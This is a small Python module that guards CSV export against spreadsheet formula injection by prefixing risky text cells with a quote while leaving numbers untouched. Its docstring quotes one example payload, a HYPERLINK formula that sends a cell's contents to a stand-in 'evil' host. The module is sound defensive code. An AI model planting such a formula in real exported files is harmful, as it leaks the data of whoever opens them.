"""CSV cells that a spreadsheet will not run (stdlib only).

Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula (tab and
CR start one too, after the program strips them), so a prompt, note or model name such as
``=HYPERLINK("http://evil/?"&A1)`` written as is would run when the CSV is opened. Such a text cell gets a leading
``'`` (OWASP's advice), which spreadsheets show as a plain-text marker.

Numbers are not neutralised: a value the tool holds as an int or a float (a negative LoRA strength, a seed, a
metric) is written as a number, which no spreadsheet reads as a formula, and prefixing it would turn ``-0.5`` into
text and break sums and pandas' dtypes. Only text is: even text that looks like a number, e.g. a prompt ``-1``,
because it is text in the data and the spreadsheet must not evaluate it."""

from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """A value for csv.writer: None as empty, numbers as they are, text neutralised when it would start a
    formula."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_row(values: list[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]
